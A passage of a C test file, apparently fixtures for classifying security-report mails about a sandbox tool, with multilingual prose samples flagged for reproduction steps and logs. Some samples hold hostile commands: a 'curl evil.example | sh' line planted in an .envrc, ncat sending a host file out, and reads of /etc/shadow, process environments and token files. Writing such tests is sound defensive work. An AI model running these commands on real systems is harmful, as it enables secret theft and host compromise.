	  "ncat --send-only 10.0.2.2 7070 < /etc/hostname\n\nand the name arrived on the host.\n", 1, 1, 0 },
	{ PROSE "Depuis l'invité j'ai lancé :\n\nsocat - UNIX-CONNECT:/run/agent.sock <<< 'ping'\n\n"
	  "et l'agent de l'hôte a répondu.\n", 1, 1, 0 },
	{ PROSE "The README tells you to start the agent with:\n\n"
	  "socat - UNIX-CONNECT:/run/agent.sock <<< 'ping'\n\nThat is what everyone runs.\n", 1, 0, 0 },
	{ PROSE "What I noticed:\n\ncurl is slow when the proxy is set and 'no_proxy' is empty.\n", 1, 0, 0 },
	/* (#3) a command indented alone, what it showed told in prose: no
	 * log; the same command with its output pasted under it is one */
	{ PROSE "As a second user I ran:\n\n    lsof -nP -u builder | grep -i token\n\n"
	  "and it listed the token file; I did not keep what it printed.\n", 1, -1, 0 },
	{ PROSE "As a second user I ran:\n\n    ps aux\n\nand saw the key in the list; the output is gone.\n",
	  1, -1, 0 },
	{ PROSE "As a second user I ran:\n\n    lsof -nP -u builder | grep -i token\n"
	  "    msbd    4242 builder   7r   REG  259,2   512  1311 /run/msb/token\n", 1, -1, 1 },
	/* round 13: pip at work is output even without a code block */
	{ PROSE "Output of pip (cut):\nCollecting microsandbox-agentd-bin>=0.6\n  Found link https://pkgs.example/x-0.6.14.whl, version: 0.6.14\n"
	  "Successfully installed microsandbox-0.6.14\n", 1, -1, 1 },
	/* round 12: a reproduction hosted in a gist; an offer of one is none */
	{ PROSE "Le script de reproduction et les sorties sont dans ce gist :\nhttps://gist.example/fd/4e1c9a0b\n", 1, 1, 0 },
	{ PROSE "The PoC is at https://paste.example/r/81f2c0 (Python 3).\n", 1, 1, 0 },
	/* (#3) round 100: a reproduction in the writer's private repository
	 * the team is invited to, in English, Chinese, Japanese, Korean,
	 * German, Spanish; not a link to the project's own repository, to an
	 * advisory or a bug, a promise to invite later, or a PoC on request */
	{ PROSE "The exploit and its fake server live in a private repo, https://github.com/kw-lab/agent-sock-poc ; I invited your security account.\n", 1, 1, 0 },
	{ PROSE "Reproducer: https://gitlab.com/kw-lab/agent-sock-poc (private, invitation sent to your team).\n", 1, 1, 0 },
	{ PROSE "The PoC is in my own repo https://codeberg.org/kw-lab/agent-sock-poc (run make poc).\n", 1, 1, 0 },
	{ PROSE "复现脚本在私有仓库 https://github.com/kw-lab/sock-poc 中，已邀请你们的账号。\n", 1, 1, 0 },
	{ PROSE "再現スクリプトは非公開リポジトリ https://github.com/kw-lab/sock-poc にあり、招待済みです。\n", 1, 1, 0 },
	{ PROSE "재현 스크립트는 비공개 저장소 https://github.com/kw-lab/sock-poc 에 두었고 초대했습니다.\n", 1, 1, 0 },
	{ PROSE "Der PoC liegt in einem privaten Repository:\nhttps://github.com/kw-lab/sock-poc\n", 1, 1, 0 },
	{ PROSE "El exploit está en un repositorio privado https://github.com/kw-lab/sock-poc y ya os invité.\n", 1, 1, 0 },
	{ PROSE "The PoC only needs the private socket path from https://github.com/superradcompany/microsandbox/blob/main/agentd/src/sock.rs\n", 1, 0, 0 },
	{ PROSE "My exploit follows the one in https://github.com/kw-lab/agentd/security/advisories/GHSA-2c4v-7x9q-m3pp (private key path).\n", 1, 0, 0 },
	{ PROSE "The exploit also works on the private fork in https://github.com/kw-lab/agentd/issues/41 for what it is worth.\n", 1, 0, 0 },
	{ PROSE "I will invite you to the private PoC repo once you reply: https://github.com/kw-lab/sock-poc\n", 1, 0, 0 },
	{ PROSE "PoC available on request (private repo https://github.com/kw-lab/sock-poc).\n", 1, 0, 0 },
	{ PROSE "复现脚本稍后会放到私有仓库 https://github.com/kw-lab/sock-poc 并邀请你们。\n", 1, 0, 0 },
	/* round 51: the link alone, the next line saying it holds the
	 * reproduction; a promise to put it there is none */
	{ PROSE "https://gist.example/kw/5d7e21c0\n(the exploit script is in there, needs a key)\n", 1, 1, 0 },
	{ PROSE "https://gist.example/kw/5d7e21c0\n(I will put the repro script in there later)\n", 1, 0, 0 },
	/* round 16: the reproduction in the private advisory the reporter filed
	 * with us; a promise to add it there later is none */
	{ PROSE "Full reproduction steps and our logs are in the draft.\n", 1, 1, 0 },
	{ PROSE "I will put the reproduction steps in the advisory later.\n", 1, 0, 0 },
	/* round 16: a Jupyter traceback (no colon after the heading) is a log */
	{ PROSE "-----------------------------------------------------------\n"
	  "PermissionError                           Traceback (most recent call last)\n"
	  "Cell In[4], line 1\n----> 1 sb.fs.download_dir(\"/out\", \"./results\")\n\n"
	  "PermissionError: [Errno 13] Permission denied: './results/../x'\n", 1, -1, 1 },
	{ PROSE "I can share the repro script as a gist later: https://gist.example/me\n", 1, 0, 0 },
	/* (#3) a runtime's exception with its module path, alone on its line,
	 * is printed output; a sentence with a dotted name and a colon, or a
	 * bare class name the writer quotes, is none */
	{ PROSE "After the second call the SDK gave up:\n\n"
	  "    acme_client.transport.errors.StreamClosed: stream reset by peer (sandbox w2)\n", 1, -1, 1 },
	{ PROSE "See the section docs.networking.Allowlists: it says the same.\n", 1, -1, 0 },
	{ PROSE "The SDK raises StreamClosed: nothing else happens.\n", 1, -1, 0 },
	/* (#3) a static analyser's findings, severity and rule id, are tool
	 * output; a severity and a plain title the writer gives is none */
	{ PROSE "Our scanner reported:\n\n[MEDIUM] go.lang.security.audit.unsafe-tar-extract\n"
	  "[LOW] generic.secrets.possible-api-key\n", 1, -1, 1 },
	{ PROSE "[HIGH] Tar extraction follows symlinks\n[LOW] Weak file mode on the cache\n", 1, -1, 0 },
	/* (1769) a notebook's cells and what they printed below them: the
	 * cell's further lines are its code, the lines further left or after
	 * a blank line its output; a cell pasted with nothing printed is no
	 * log, nor is a cell that only asks for the package's version */
	{ PROSE "From my notebook:\n\nIn [7]: sb = await PythonSandbox.create(name=\"t\")\n"
	  "        res = await sb.run(\"print(open('/proc/1/environ').read())\")\n        print(await res.output())\n\n"
	  "PATH=/usr/bin HOME=/root AWS_PROFILE=prod\n", 1, 1, 1 },
	{ PROSE "In [2]: x = await sb.run(\"id\")\n        print(await x.output())\n"
	  "uid=0(root) gid=0(root) groups=0(root)\n", 1, 1, 1 },
	{ PROSE "In [5]: await sb.run(\"cat /etc/hostname\")\nOut[5]: <Execution id=ex_42 exit=0>\n", 1, 1, 1 },
	{ PROSE "The cell:\n\nIn [3]: import os\n        from microsandbox import PythonSandbox\n"
	  "        os.environ[\"PROBE\"] = \"p-1\"\n\nThen the sandbox sees PROBE too, which it should not.\n", 1, 1, 0 },
	{ PROSE "In [1]: !pip show microsandbox\nName: microsandbox\nVersion: 0.10.8\n", 1, -1, 0 },
	/* (1768) numbered steps under the writer's saying he tried it, at
	 * the end of the line above: a reproduction; the words with no list
	 * under them are none */
	{ PROSE "Anyone with the unlocked box can read the token. We verified this ourselves:\n"
	  "1. Reboot holding Shift into the GRUB menu\n2. Pick the recovery entry, then the root shell\n"
	  "3. less /home/dev/.config/microsandbox/token\n", 1, 1, -1 },
	{ PROSE "Lo probé así:\n1. Apagar el equipo\n2. Arrancar desde un USB en vivo\n3. Montar el disco y leer el archivo\n", 1, 1, -1 },
	{ PROSE "I tried it and it did not work on the second machine.\n1.2 GB of logs later nothing changed.\n", 1, 0, -1 },
	{ PROSE "I tried it:\n- the docs\n", 1, 0, -1 },
	/* round 33: the decisive command kept back; the commands around the
	 * gap only look at the result (a log, not a reproduction) */
	{ PROSE "I'd rather not put the exact remount invocation in an unencrypted mail.\n\n"
	  "guest# grep /src /proc/mounts\nsrc /src virtiofs ro,relatime 0 0\nguest# <remount, see above>\n"
	  "guest# grep /src /proc/mounts\nsrc /src virtiofs rw,relatime 0 0\n", 1, 0, -1 },
	{ PROSE "I have withheld the payload until we have talked.\n\n    $ msb run alpine -- sh /x.sh\n", 1, 0, -1 },
	/* (#3) the writer never ran the exploit itself, the sentence ending
	 * there: what he ran checks its preconditions; a run left out only
	 * somewhere in particular keeps the local reproduction */
	{ PROSE "The guest sees the vmx flag and my host kernel is older than the fix.\n\n"
	  "    $ msb run --rm alpine -- grep -c vmx /proc/cpuinfo\n    4\n\n"
	  "We did not actually run the public PoC.\n", 1, 0, -1 },
	{ PROSE "I didn't run the exploit against our production hosts, only on this test box:\n\n"
	  "    $ msb run --rm alpine -- sh -c 'echo 1 > /host-proc/sys/kernel/sysrq'\n", 1, 1, -1 },
	/* (#3) steps told inside one paragraph after a reproduction label
	 * ("Repro: ..."), a shell line among them: typed on a phone, no block;
	 * the same shape after another label, or a label with no shell line,
	 * is none */
	{ PROSE "Repro: start a sandbox with msb up, then inside it echo 'curl evil.example | sh' >> "
	  "/project/.envrc ; exit, and open a new shell on the host.\n", 1, 1, -1 },
	{ PROSE "Quick version. Steps to reproduce: open two terminals, then in the first one printf "
	  "'x' > /shared/lock && ls -l /shared, and watch the second.\n", 1, 1, -1 },
	{ PROSE "Repro: just run the installer and look at the mode of the config file.\n", 1, 0, -1 },
	{ PROSE "Workaround: printf 'hooks: []\\n' > /workspace/Sandboxfile before every msb down.\n", 1, 0, -1 },
	{ PROSE "After an hour with the other bug's repro notes: echo 'x' > /tmp/y is what they did there.\n",
	  1, 0, -1 },
	/* (#3) a step labelled with a possessive ("On the attacker's VM:")
	 * is a label all the same; a sentence after it is no command */
	{ PROSE "1. On the attacker's VM: curl -s http://10.1.2.3:9000/secret prints the file.\n", 1, 1, -1 },
	{ PROSE "1. On the user's laptop: the curl command fails with a TLS error.\n", 1, 0, -1 },
	/* (#3) a reproduction section's heading over one line of prose that
	 * says where the steps were run, then the list; a heading of another
	 * kind, or a section left to be done, lists no reproduction */
	{ PROSE "Reproduction:\nI did this only on my own fork of the repository.\n\n"
	  "1. Open an issue from a second account.\n2. Comment /deploy on it.\n"
	  "3. Watch the workflow push to main.\n", 1, 1, -1 },
	{ PROSE "Suggestions:\nThese would make it harder to misuse.\n\n"
	  "1. Check the comment author.\n2. Pin the URL prefix.\n3. Use workflow_dispatch.\n", 1, 0, -1 },
	{ PROSE "Reproduction:\nTBD, I will write it up next week.\n\n"
	  "1. Open an issue from a second account.\n2. Comment /deploy on it.\n"
	  "3. Watch the workflow push to main.\n", 1, 0, -1 },
	/* issue #3: a program run by its path with an option is a command in
	 * a block of commands, not output (no logs); a path with a colon after
	 * it is still output */
	{ PROSE "As a plain user:\n\n  mkdir -p /tmp/q\n  chmod +x /tmp/q/run\n"
	  "  /opt/tool/bin/helper --plugins /tmp/q --once\n  /tmp/q/sh2 -p\n", 1, 1, 0 },
	{ PROSE "Steps:\n\n  ~/.local/bin/msb --version\n  msb run -v /:/h alpine -- ls /h\n", 1, 1, 0 },
	{ PROSE "I ran:\n\n  chmod +x /tmp/q/run\n  /tmp/q/run\n  /tmp/q/run: 3: cannot create /etc/x: Permission denied\n"
	  "  /usr/bin/ld: cannot find -lfoo\n  /var/lib/x/y.db: SQLite 3.x database\n", 1, 1, 1 },
	/* issue #3: what happened once, told with the commands run in passing,
	 * and the writer cannot make it happen again or does not know how:
	 * no reproduction, in any language; real steps stay one, even when the
	 * writer is unsure or it failed on another host */
	{ PROSE "I only ran the usual installer:\n\n    curl -fsSL https://get.example/i.sh | sh\n\n"
	  "Since then I could not make it happen again.\n", 1, 0, -1 },
	{ PROSE "What I saw in the new sandbox:\n\n    user@lab-3:~$ ls -la /home\n    drwx------ 2 ana ana 4096 Mar  3 08:10 ana\n\n"
	  "I restored it six times later, but it never happened again.\n", 1, 0, -1 },
	{ PROSE "Запустив:\n\n    curl -fsSL https://get.example/i.sh | sh\n\nЯк це повторити, я не знаю.\n", 1, 0, -1 },
	{ PROSE "Я запускал:\n\n    $ msb run -v /srv:/data alpine -- ls /data\n\nНе знаю, как это повторить.\n", 1, 0, -1 },
	{ PROSE "Rodei isto:\n\n    $ msb snapshot restore base --name t1\n\nN\xc3\xa3o sei como reproduzir isso.\n", 1, 0, -1 },
	{ PROSE "Ejecut\xc3\xa9:\n\n    $ msb run --network none alpine -- wget http://10.0.2.2/\n\nNo pude reproducirlo otra vez.\n", 1, 0, -1 },
	{ PROSE "Ich hatte nur das gestartet:\n\n    $ msb run alpine -- sh -c 'ls /mnt'\n\nIch konnte es nicht mehr reproduzieren.\n", 1, 0, -1 },
	{ PROSE "\xe0\xb8\x9c\xe0\xb8\xa1\xe0\xb8\xa3\xe0\xb8\xb1\xe0\xb8\x99:\n\n    $ msb snapshot restore base --name s2\n\n"
	  "\xe0\xb8\x97\xe0\xb8\xb3\xe0\xb8\x8b\xe0\xb9\x89\xe0\xb8\xb3\xe0\xb9\x84\xe0\xb8\xa1\xe0\xb9\x88\xe0\xb9\x84\xe0\xb8\x94\xe0\xb9\x89\n", 1, 0, -1 },
	{ PROSE "To reproduce:\n\n    $ msb run --network none alpine -- wget -qO- http://10.0.2.2:8080/\n\n"
	  "It is flaky; I could not reproduce it again on my second laptop.\n", 1, 1, -1 },
	{ PROSE "    $ msb run --network none alpine -- wget -qO- http://10.0.2.2:8080/\n\n"
	  "I could not reproduce it on Fedora 41, only on Debian.\n", 1, 1, -1 },
	{ PROSE "    $ msb run --network none alpine -- wget -qO- http://10.0.2.2:8080/\n\n"
	  "About one run in five fails; I can't make it happen again reliably.\n", 1, 1, -1 },
	{ PROSE "    $ msb run --network none alpine -- wget -qO- http://10.0.2.2:8080/\n\n"
	  "I am not sure this is the cause, but it happens every time for me.\n", 1, 1, -1 },
	/* the reproduction put in an attachment the mail does not have (1593):
	 * the commands that look at the result are its output, in any
	 * language; a heading of the writer's over commands of his own, or
	 * "attached" said of a log, keeps them a reproduction */
	{ PROSE "The full reproduction is in the attached script. Afterwards, on the host:\n\n"
	  "    $ ls -l /var/tmp/owned\n    -rw-r--r-- 1 root root 12 Jan  3 10:00 /var/tmp/owned\n", 1, 0, 1 },
	{ PROSE "Das Skript liegt im Anhang. Danach auf dem Host:\n\n"
	  "    $ cat /var/tmp/beweis\n    uid=0(root) gid=0(root) groups=0(root)\n", 1, 0, 1 },
	{ PROSE "Pour reproduire, voir le script ci-joint. Ensuite, sur l'h\xc3\xb4te :\n\n"
	  "    $ cat /var/tmp/preuve\n    uid=0(root) gid=0(root) groups=0(root)\n", 1, 0, 1 },
	{ PROSE "My exploit script is attached.\n\nSteps to reproduce by hand:\n\n"
	  "    $ msb run -v /:/h alpine -- cat /h/etc/shadow\n", 1, 1, -1 },
	{ PROSE "See the attached log for everything msbd printed.\n\n"
	  "    $ msb run --network none alpine -- wget -qO- http://10.0.2.2:8080/\n", 1, 1, -1 },
	/* round 36: the script kept until we answer, the promise wrapped over
	 * two lines (subject on one, verb on the next); a denial wrapped the
	 * same way; logs promised that way take no PoC away */
	{ PROSE "    $ ls -la /run/msb/build/\n    drwxrwxrwx 2 alice alice 120 Nov 27 10:02 .\n\n"
	  "I have a small script that sets up both users and shows it end to end; I\n"
	  "will send it once you confirm you got this mail.\n", 1, 0, -1 },
	{ PROSE "I'll share the PoC after you acknowledge the report.\n\n    $ msb run alpine -- sh /x.sh\n", 1, 0, -1 },
	{ PROSE "I have\nnot written a PoC. The check looks like this:\n\n```rust\n"
	  "let len = u32::from_be_bytes(hdr) as usize;\nlet body = len - FRAME_HEADER_SIZE;\nlet buf = vec![0u8; body];\n```\n", 1, 0, 0 },
	{ PROSE "    $ msb run alpine -- sh /x.sh\n\nI will send the full debug logs once\nyou confirm.\n", 1, 1, 0 },
	/* (1730) the exploit kept off the mail for a safe channel or until
	 * asked for: a promise; a log sent that way, an exploit that
	 * arrives by mail in the attack, take no PoC away */
	{ PROSE "    $ sudo -n true\n\nI would rather not send the exploit script by e-mail; give me\n"
	  "a PGP key first.\n", 1, 0, -1 },
	{ PROSE "    $ sudo -n true\n\nReply to this mail and I can send it over Signal.\n"
	  "I'll share the exploit through a secure channel.\n", 1, 0, -1 },
	{ PROSE "    $ msb run alpine -- sh /x.sh\n\nI don't want to send the logs by email, they hold hostnames.\n", 1, 1, -1 },
	{ PROSE "    $ msb run alpine -- sh /x.sh\n\nThe victim then opens the exploit sent by email.\n", 1, 1, -1 },
	/* (1748) the kernel's and the CPU's settings read back are evidence
	 * of a setting, no reproduction; a process's environ read from the
	 * guest still is one */
	{ PROSE "    / # cat /proc/cmdline\n    console=hvc0 quiet nosmt=off\n"
	  "    / # grep . /sys/devices/system/cpu/vulnerabilities/l1tf\n"
	  "    /sys/devices/system/cpu/vulnerabilities/l1tf:Vulnerable\n", 1, 0, -1 },
	{ PROSE "    $ cat /proc/sys/kernel/unprivileged_bpf_disabled\n    0\n", 1, 0, -1 },
	{ PROSE "    / # cat /proc/1/environ\n    MSB_TOKEN=abc123\n", 1, 1, -1 },
	{ PROSE "I have not tried to write an exploit.\n\n```c\nint x = a[i];\nint y = b[x];\n```\n", 1, 0, -1 },

	/* environment listings are neither a reproduction nor a log */
	{ PROSE "    $ apt policy microsandbox\n    microsandbox:\n      Installed: 0.8.4-1~noble\n"
	  "    $ fastfetch -l none\n    OS: Fedora Linux 41 (Workstation Edition) x86_64\n", 1, 0, 0 },
	/* round 18: a web IDOR told in one sentence; a Windows dir listing and an
	 * ASCII histogram are output, a bare "id" is no tampering */
	{ PROSE "Log in, then change the org id in the address bar from your own to any\nother number.\n", 1, 1, 0 },
	{ PROSE "The org id is shown in the address bar of the dashboard.\n", 1, 0, 0 },
	{ PROSE " Directory of C:\\Users\\k\\Startup\n\n28/11/2026  10:14                10 pwn.bat\n"
	  "               1 File(s)             10 bytes\n", 1, -1, 1 },
	{ PROSE "  <200      |                  |##########  9114\n  200-400   |                  |###          702\n"
	  "  1600-3200 |##########  8821 |\n", 1, -1, 1 },
	{ PROSE "Thanks,\nAna\nhttps://gist.example/ana\n", 1, 0, 0 },
	{ PROSE "```sh\nmsb run --no-net alpine -- nslookup leak.example\n```\n", 1, 1, 0 },
	{ PROSE "~~~js\nimport { Sandbox } from \"microsandbox\";\nconst sb = await Sandbox.create(\"x\");\nawait sb.exec(\"id\");\n~~~\n", 1, 1, 0 },
	{ PROSE "    import socket\n    s = socket.socket()\n    s.connect((\"10.0.0.1\", 80))\n", 1, 1, 0 },
	{ PROSE "\tgcc -o x x.c && ./x /mnt/share\n", 1, 1, 0 },
	{ PROSE "PS C:\\Users\\kiosk> msb exec build -- sh -c \"id\"\n", 1, 1, 0 },
	{ PROSE "Steps to reproduce:\n\n1. Create a sandbox with a writable mount.\n2. Rename the parent directory in the guest.\n"
	  "3. Create a symlink where the directory was.\n4. Write a file through the old path.\n", 1, 1, 0 },
	/* (#3) the steps' heading hard-wrapped over a two-line paragraph,
	 * its word on the first line; a two-line paragraph whose last
	 * sentence leads into advice, or a longer paragraph that only
	 * mentions steps on its first line, heads no reproduction */
	{ PROSE "Steps to check it (in a throwaway VM rather than on a laptop you\n"
	  "care about, since it leaves a package behind):\n\n  1. Create a sandbox with a writable mount.\n"
	  "  2. Rename the parent directory in the guest.\n  3. Write a file through the old path.\n", 1, 1, 0 },
	{ PROSE "Schritte zum Nachstellen (am besten in einer Wegwerf-VM, weil ein\n"
	  "Paket zurückbleibt):\n\n1. Eine Sandbox mit Volume anlegen.\n2. Das Verzeichnis umbenennen.\n"
	  "3. Durch den alten Pfad schreiben.\n", 1, 1, 0 },
	/* round 107 (1255, 1258): the writer's "what I did / what I tried"
	 * heading in other languages, ending in a colon over the list; the
	 * same words starting a sentence, or a list of what the writer needs,
	 * head no reproduction */
	{ PROSE "Lo que probamos:\n1. Crear un proyecto nuevo.\n2. Borrar la clave desde la consola.\n"
	  "3. Llamar a la API con la clave borrada.\n", 1, 1, 0 },
	{ PROSE "Yaptıklarım:\n1. Yeni bir sandbox açtım.\n2. Paylaşılan klasörü bağladım.\n"
	  "3. Başka bir kullanıcıyla dosyayı okudum.\n", 1, 1, 0 },
	{ PROSE "Ce que j'ai fait :\n1. Créer une équipe.\n2. Retirer un membre.\n"
	  "3. Ouvrir le lien avec son compte.\n", 1, 1, 0 },
	{ PROSE "Was wir gemacht haben:\n1. Ein Projekt anlegen.\n2. Den Token widerrufen.\n"
	  "3. Mit dem alten Token die API aufrufen.\n", 1, 1, 0 },
	/* (#3) German says it tried the steps with the participle first or
	 * last ("Nachgestellt habe ich das ...:", 1944), and a list under the
	 * writer's own trial stands though he left an aside untried; without
	 * such a heading the denial still wins, and "nicht" over the list is
	 * no trial */
	{ PROSE "Das Deploy-Skript hat dasselbe Muster, das habe ich nur gelesen und nicht getestet.\n\n"
	  "Getestet habe ich es nur auf einer eigenen Kopie:\n\n1. Das Repository in eine Test-Organisation kopiert.\n"
	  "2. Mit einem zweiten Konto geforkt.\n3. Einen Pull Request aus dem Fork geöffnet.\n", 1, 1, 0 },
	{ PROSE "Ich habe das in einer Wegwerf-VM wie folgt nachgestellt:\n\n1. Eine Sandbox angelegt.\n"
	  "2. Den Ordner umbenannt.\n3. Durch den alten Pfad geschrieben.\n", 1, 1, 0 },
	{ PROSE "I tried it myself:\n\n1. Fork the repository.\n2. Rename a branch to main.\n"
	  "3. Open the pull request.\n\nThe release job I have not tested.\n", 1, 1, 0 },
	{ PROSE "Ausprobiert habe ich das nicht:\n\n1. Das Repository kopieren.\n2. Einen Fork anlegen.\n"
	  "3. Einen Pull Request öffnen.\n", 1, 0, 0 },
	{ PROSE "Ich habe das nicht nachgestellt:\n\n1. Das Repository kopieren.\n2. Einen Fork anlegen.\n"
	  "3. Einen Pull Request öffnen.\n", 1, 0, 0 },
	{ PROSE "I have not tested this.\n\nSteps:\n\n1. Fork the repository.\n2. Rename a branch to main.\n"
	  "3. Open the pull request.\n", 1, 0, 0 },
	{ PROSE "Lo que hice fue escribiros enseguida, con estos datos\n1. Cuenta gratuita.\n"
	  "2. Región europea.\n3. Consola web.\n", 1, 0, 0 },
	{ PROSE "Lo que necesito:\n1. Una respuesta.\n2. Un número de CVE.\n3. Una fecha.\n", 1, 0, 0 },
	/* (#3) npm's own log lines are output, after a registry query too
	 * (whose output is otherwise no log), in npm 10's words and the older
	 * ones; "npm error" in the writer's sentences is none */
	{ PROSE "Nobody owns the name yet:\n\n    $ npm view acme-sandbox-win32-arm64\n    npm error code E404\n"
	  "    npm error 404 Not Found - GET https://registry.example/acme-sandbox-win32-arm64 - Not found\n", 1, -1, 1 },
	{ PROSE "The install on the runner stopped with:\n\nnpm ERR! code EACCES\nnpm ERR! syscall mkdir\n"
	  "npm ERR! path /usr/lib/node_modules/acme\n", 1, -1, 1 },
	{ PROSE "npm warn deprecated glob-lite@7.1.0: no longer supported\n"
	  "npm warn deprecated rimraf-lite@2.7.1: no longer supported\n", 1, -1, 1 },
	{ PROSE "npm error code E404 means nobody has published the name, and\n"
	  "npm error 404 lines are all you see when you ask for it.\n", 1, 0, 0 },
	{ PROSE "npm error messages are terse here and\nnpm warn lines say nothing about the missing package.\n", 1, 0, 0 },
	{ PROSE "Our CI runs untrusted build steps in these sandboxes. We would\n"
	  "like to pass on a few suggestions after reading the defaults:\n\n1. Drop root in the guest.\n"
	  "2. Pin the base images by digest.\n3. Scope the registry tokens per job.\n", 1, 0, 0 },
	{ PROSE "The build steps of our pipeline run in the sandbox, and we have\n"
	  "been reading the defaults for a while now with the whole team,\n"
	  "and would suggest these changes:\n\n1. Drop root in the guest.\n"
	  "2. Pin the base images by digest.\n3. Scope the registry tokens per job.\n", 1, 0, 0 },
	{ PROSE "Reproduction\n------------\n  1. Fork the repository.\n  2. Open a pull request that adds a preinstall script.\n"
	  "  3. Push a tag on the fork and watch the cache hit.\n", 1, 1, 0 },
	{ PROSE "import asyncio\nfrom microsandbox import Sandbox\nasync def main():\n    sb = await Sandbox.create(\"x\")\n", 1, 1, 0 },
	{ PROSE "```console\nuser@host:~$ msb exec t -- id\nuid=0(root) gid=0(root)\n```\n", 1, 1, 1 },
	/* round 26: a bounty platform's offer describes no issue, though it
	 * names what its researchers found elsewhere; a report that says the
	 * project runs no bounty program still describes one */
	{ "Our community of researchers has found sandbox escapes, privilege escalation and secret leakage\n"
	  "in container runtimes and microVM projects. For open-source isolation projects we offer a free\n"
	  "private pilot: triage, CVSS scoring and payouts you approve.\n", 0, 0, 0 },
	{ "I know you do not run a paid bug bounty program. The guest can write to host files through a\n"
	  "symlink in the volume, which is a sandbox escape: an attacker in the guest controls the host.\n", 1, -1, -1 },
	/* round 26: output on the line right after a command, unfenced */
	{ PROSE "$ msb run --name b alpine -- /data/fhopen 1835012\nopened handle ino=1835012 -> fd 3\n", 1, 1, 1 },
	{ PROSE "Étapes pour reproduire :\n\n1. Lancer une sandbox avec un volume.\n2. Créer un lien symbolique.\n3. Lire le fichier.\n", 1, 1, 0 },
	{ "Hi,\n\nThe server's /mcp endpoint has no authentication; anyone on the network can run commands as root on the host.\n\n"
	  "msb server start --dev\ncurl -s http://host:5555/mcp -d '{}'\n", 1, 1, 0 },
	/* (the prose line is no command; `ls -l` only shows the socket's
	 * mode: evidence, a log, and no reproduction, issue #3) */
	{ "msb exec lets any user on the box run stuff as root because the control socket is 0666.\n\n"
	  "  ls -l /run/msb/msb.sock\n  srwxrwxrwx 1 root root 0 Nov  3 10:00 /run/msb/msb.sock\n\nthx\n", 1, 0, 1 },
	{ PROSE "```yaml\nsandboxes:\n  evil:\n    image: alpine\n    volumes:\n      - /:/host\n```\n", 1, 1, 0 },
	/* a Sandboxfile given bare in the mail, its command a list (1430) */
	{ PROSE "Put this Sandboxfile in the cloned project:\n\nsandboxes:\n  web:\n    image: debian:12\n"
	  "    entrypoint: [\"--volume=/etc:/e\", \"cat\", \"/e/shadow\"]\n\nand start it.\n", 1, 1, 0 },
	/* ... one line of a unit file is no config given */
	{ PROSE "The unit file on the host says:\n\n    command: /usr/local/bin/msb server start\n", 1, 0, 0 },
	/* the updates and errata a package manager knows of say what is
	 * installed, like a listing: no reproduction (1419) */
	{ PROSE "[root@db1 ~]# yum -q check-update msb\nmsb.x86_64   0.10.2-1.el8   msb-stable\n"
	  "[root@db1 ~]# dnf updateinfo list --security msb\n[root@db1 ~]# cat /etc/almalinux-release\n"
	  "AlmaLinux release 8.10 (Cerulean Leopard)\n", 1, 0, -1 },
	{ PROSE "$ apt list --upgradable 2>/dev/null | grep msb\nmsb/stable 0.10.3 amd64 [upgradable from: 0.10.1]\n"
	  "$ cat /etc/debian_version\n12.7\n", 1, 0, -1 },
	/* ... while a file of /etc read from inside the guest reproduces */
	{ PROSE "[root@guest ~]# cat /etc/shadow\nroot:*:19000:0:99999:7:::\n", 1, 1, -1 },
	{ PROSE "To reproduce, run these on the host:\n\n1. Start one: `msb run --name a -v /tmp/x:/x alpine -- sleep 999`\n"
	  "2. Then `msb exec a -- ln -s / /x/root` and read through it.\n", 1, 1, 0 },
	{ PROSE "How to reproduce (the clean version,\nthe real one is messier):\n\n1. msb run --name a alpine -- sh -c 'echo x > /root/s'\n"
	  "2. msb snapshot create a --tag t\n3. look at the result\n", 1, 1, 0 },
	{ PROSE "<html><body><iframe src=\"https://target.example\"></iframe></body></html>\n", 1, 1, 0 },
	{ PROSE "Kroki:\n1. Uruchom: wscat -H 'X-Org: a' -c wss://api.example/v1/s\n2. Zobacz wynik.\n", 1, 1, 0 },
	/* (1845, 1847) steps headings in Greek and in Serbian, Croatian or
	 * Bosnian (Latin and Cyrillic), over numbered steps with no command;
	 * a list under another heading is no reproduction */
	{ PROSE "Βήματα αναπαραγωγής:\n1. Συνδεθείτε στην κονσόλα ως χρήστης Α.\n2. Ανοίξτε τη σελίδα του οργανισμού Β.\n"
	  "3. Η λίστα με τα sandboxes εμφανίζεται.\n", 1, 1, 0 },
	{ PROSE "Για αναπαραγωγή:\n1. Συνδεθείτε ως ο πρώτος χρήστης.\n2. Αλλάξτε τον αριθμό του οργανισμού.\n"
	  "3. Βλέπετε ξένα δεδομένα.\n", 1, 1, 0 },
	{ PROSE "Koraci:\n1. Prijavite se kao korisnik A.\n2. Otvorite stranicu organizacije B.\n3. Lista se pojavi.\n", 1, 1, 0 },
	{ PROSE "Kako reprodukovati:\n1. Prijavite se u konzolu.\n2. Promenite broj organizacije.\n3. Vidite tuđe podatke.\n", 1, 1, 0 },
	{ PROSE "Кораци:\n1. Пријавите се као корисник А.\n2. Отворите страницу организације Б.\n3. Листа се појави.\n", 1, 1, 0 },
	{ PROSE "Šta sam uradio:\n1. Prijavio se kao korisnik A.\n2. Otvorio stranicu organizacije B.\n3. Video listu.\n", 1, 1, 0 },
	{ PROSE "Τι έκανα:\n1. Συνδέθηκα ως χρήστης Α.\n2. Άνοιξα τη σελίδα του Β.\n3. Είδα τη λίστα.\n", 1, 1, 0 },
	{ PROSE "Προτάσεις για τη διόρθωση:\n1. Ελέγξτε τον οργανισμό.\n2. Καταγράψτε την πρόσβαση.\n3. Ενημερώστε τους χρήστες.\n", 1, 0, 0 },
	{ PROSE "Predlozi za ispravku:\n1. Proverite organizaciju.\n2. Beležite pristup.\n3. Obavestite korisnike.\n", 1, 0, 0 },
	{ PROSE "Pokrenuo sam sve ovo na laptopu i nije bilo greške.\n", 1, 0, 0 },
	/* (1845) a sandbox made from a snapshot with msb restore, written on
	 * a line of its own in a paragraph; the subcommand named in prose is
	 * none */
	{ PROSE "Κάθε φορά:\nmsb restore gold --name c2 -- ls -la /tmp\nmsb rm c2\n\nΤα αρχεία του c1 είναι εκεί.\n", 1, 1, 0 },
	{ PROSE "msb restore keeps the overlay directory of the sandbox that was removed before.\n", 1, 0, 0 },
	/* (1847) a printed blob decoded with a pipe on a line of its own,
	 * inside a wrapped sentence; the decoder named in prose is none */
	{ PROSE "Za proveru kopirajte liniju pa\necho aGVsbG8tc2VjcmV0LXRva2Vu | base64 --decode\ni vidi se token.\n", 1, 1, 0 },
	{ PROSE "Then run\nprintf %s \"$LINE\" | openssl base64 -A -d\nand the secret is back.\n", 1, 1, 0 },
	{ PROSE "Vrednost je u base64 obliku, a base64 -d je odmah otkriva.\n", 1, 0, 0 },
